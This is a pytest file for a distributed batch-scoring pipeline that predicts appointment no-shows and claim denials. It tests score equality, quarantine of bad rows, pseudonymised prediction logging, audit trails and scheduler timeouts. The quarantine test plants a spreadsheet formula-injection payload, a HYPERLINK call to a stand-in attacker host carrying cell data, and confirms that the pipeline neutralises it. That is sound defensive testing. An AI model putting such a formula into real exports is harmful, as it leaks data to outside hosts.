"""Batch scoring with dask.dataframe on a distributed.LocalCluster equals in-process scoring."""

from __future__ import annotations

import time
from pathlib import Path

import mlflow
import numpy as np
import pandas as pd
import pytest
from typer.testing import CliRunner

from cli import app
from data.loaders.canonical import claims_for_file, load_appointments, load_claims
from data.loaders.tables import read_table, write_table
from data.stores.audit import AuditStore
from data.synthetic.appointments import generate_appointments
from data.synthetic.claims import generate_claims
from features.history import lead_band_counts
from models.pyfunc import load_registered
from services.monitoring.log_store import PredictionLog
from services.monitoring.pseudonyms import pseudonym
from tests.helpers import PSEUDONYM_KEY, TrainedStore
from training.batch import dask_client, gather_lead_band_counts, score_files


@pytest.fixture(scope="module")
def cluster():
    with dask_client(None, workers=2, timeout_seconds=30) as client:
        yield client


def champion(store: TrainedStore, task: str):
    mlflow.set_tracking_uri(store.settings.tracking_uri)
    return load_registered(f"models:/{task}@champion").trained


def test_100k_appointments_equal_in_process_scoring(
    trained_store: TrainedStore, cluster, tmp_path: Path
) -> None:
    data = write_table(generate_appointments(100_000, seed=91), tmp_path / "appointments.csv")
    trained = champion(trained_store, "noshow")
    result = score_files(
        trained, [data], tmp_path / "scores.parquet", client=cluster, show_progress=False, blocksize="1MB"
    )
    assert result.rows_scored == 100_000 and result.quarantine is None
    scored = pd.read_parquet(result.out).set_index("appointment_id")["no_show_probability"]
    table = load_appointments(data).valid
    expected = trained.predict_frame(table)
    assert scored.index.is_unique and len(scored) == len(table)
    assert np.abs(scored.loc[table["appointment_id"]].to_numpy() - expected).max() <= 1e-9


def test_lead_band_counts_summed_over_partitions_equal_the_whole_tables(cluster) -> None:
    import dask.dataframe as dd

    table = load_appointments(generate_appointments(5_000, seed=93)).valid
    table.loc[table.index[::7], "booked_at"] = pd.NaT  # unknown booking times count in no band
    table.loc[table.index[::5], "no_show"] = np.nan  # nor do unknown outcomes
    expected = lead_band_counts(table)
    assert (expected["visits"] > 0).sum() >= 4
    got = gather_lead_band_counts(dd.from_pandas(table, npartitions=4))
    pd.testing.assert_frame_equal(got, expected)


def test_claims_in_several_files_equal_in_process_scoring(
    trained_store: TrainedStore, cluster, tmp_path: Path
) -> None:
    frame = claims_for_file(generate_claims(4_000, seed=92))
    files = [
        write_table(frame.iloc[:2_000], tmp_path / "a.csv"),
        write_table(frame.iloc[2_000:], tmp_path / "b.parquet"),
    ]
    files = [files[0], write_table(frame.iloc[2_000:], tmp_path / "b.csv")]
    trained = champion(trained_store, "denial")
    result = score_files(trained, files, tmp_path / "scores.csv", client=cluster, show_progress=False)
    scored = read_table(result.out).set_index("claim_id")["denial_probability"].astype(float)
    table = load_claims(frame).valid
    assert np.abs(scored.loc[table["claim_id"]].to_numpy() - trained.predict_frame(table)).max() <= 1e-9


def test_bad_rows_are_quarantined_and_the_exit_code_says_so(
    trained_store: TrainedStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    frame = generate_appointments(2_000, seed=93)
    frame["patient_age"] = frame["patient_age"].astype(object)
    frame.loc[[10, 20], "patient_age"] = -3
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'  # the penetration test's payload
    frame.loc[20, "appointment_id"] = formula
    data = write_table(frame, tmp_path / "appointments.csv")
    monkeypatch.setenv("MLFLOW_TRACKING_URI", trained_store.settings.tracking_uri)
    monkeypatch.setenv("CAREOPS_DATABASE_URL", f"sqlite:///{tmp_path / 'log.db'}")
    monkeypatch.setenv("CAREOPS_PSEUDONYM_KEY", PSEUDONYM_KEY)
    out = tmp_path / "scores.csv"
    result = CliRunner().invoke(
        app, ["score", "noshow", "--data", str(data), "--out", str(out), "--workers", "1"]
    )
    assert result.exit_code == 3, result.output
    assert "quarantined 2 rows" in result.output
    scores = read_table(out)
    assert len(scores) == 1_998 and list(scores.columns) == ["appointment_id", "no_show_probability"]
    # The scores are in the prediction log too, under pseudonyms, with their groups and event days.
    assert "logged 1998 scores" in result.output
    logged = PredictionLog(f"sqlite:///{tmp_path / 'log.db'}").predictions("noshow")
    champion = trained_store.results["noshow"].model_version
    assert len(logged) == 1_998 and set(logged["source"]) == {"batch"}
    assert set(logged["model_version"]) == {champion}
    first = scores.iloc[0]
    row = logged[logged["record_key"] == pseudonym(PSEUDONYM_KEY.encode(), first["appointment_id"])].iloc[0]
    assert row["probability"] == pytest.approx(float(first["no_show_probability"]))
    assert row["segment_age_band"] in ("0-17", "18-39", "40-64", "65+") and row["event_day"] > 20000
    assert not set(frame["appointment_id"]) & set(logged.astype(str).to_numpy().ravel())
    quarantine = read_table(tmp_path / "scores.quarantine.csv")
    assert (
        quarantine["quarantine_reason"].tolist()
        == ["patient_age: Input should be greater than or equal to 0"] * 2
    )
    # The quarantine file is for people: the formula is quoted, the number stays a number.
    assert sorted(quarantine["appointment_id"]) == sorted([frame.loc[10, "appointment_id"], "'" + formula])
    assert quarantine["patient_age"].tolist() == ["-3", "-3"]
    # The batch is in the access audit trail: who ran it, and every record it scored.
    trail = AuditStore(f"sqlite:///{tmp_path / 'log-audit.db'}")  # beside log.db, a file of its own
    (entry,) = [s.entry for s in trail.entries() if s.entry.action == "score"]
    assert entry.principal.startswith("system:operator:") and entry.source == "cli"
    assert entry.resource == "appointment" and entry.count == 1_998
    assert set(entry.record_ids) == set(scores["appointment_id"])


def test_an_unreachable_scheduler_fails_clearly_and_soon(
    trained_store: TrainedStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    data = write_table(generate_appointments(100, seed=94), tmp_path / "appointments.csv")
    monkeypatch.setenv("MLFLOW_TRACKING_URI", trained_store.settings.tracking_uri)
    monkeypatch.setenv("CAREOPS_DASK_CONNECT_TIMEOUT_SECONDS", "2")
    start = time.monotonic()
    result = CliRunner().invoke(
        app,
        [
            "score",
            "noshow",
            "--data",
            str(data),
            "--out",
            str(tmp_path / "s.csv"),
            "--scheduler",
            "tcp://127.0.0.1:9",
        ],
    )
    assert result.exit_code == 2
    assert "no Dask scheduler answered at tcp://127.0.0.1:9 within 2s" in result.output
    assert time.monotonic() - start < 30
